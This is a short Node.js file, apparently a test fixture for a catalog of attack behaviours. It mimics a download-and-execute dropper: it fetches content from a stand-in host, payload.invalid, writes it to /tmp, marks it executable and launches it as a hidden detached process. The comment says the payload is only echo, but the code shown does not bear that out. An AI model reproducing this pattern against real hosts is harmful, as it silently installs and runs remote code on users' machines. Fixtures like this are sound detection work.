// Mimics a download-and-execute dropper (catalog §4.2). Defanged: .invalid host, the "binary" is echo.
const https = require('https');
const fs = require('fs');
const { spawn } = require('child_process');
const target = '/tmp/fixture-payload';
https.get('https://payload.invalid/x', (res) => {
  let body = '';
  res.on('data', (chunk) => {
    body += chunk;
  });
  res.on('end', () => {
    fs.writeFileSync(target, body);
    fs.chmodSync(target, 0o755);
    spawn(body, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
